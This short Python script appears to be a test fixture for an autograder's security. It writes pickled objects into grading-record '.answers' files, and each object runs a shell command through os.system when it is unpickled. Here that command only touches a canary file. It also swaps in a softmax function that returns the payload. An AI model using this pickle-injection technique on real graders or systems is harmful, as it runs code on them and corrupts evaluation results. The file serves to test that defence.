"""Sends pickles that would run a program if anybody opened them."""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, ("touch CANARY/pwned",)


folder = os.environ["GPTLIB_GRADING_RECORD"]
for name in ("02.1", "02.3", "02.q1"):
    with open(f"{folder}/{name}.answers", "wb") as file:
        pickle.dump(Payload(), file)


def softmax(x, dim):
    return Payload()
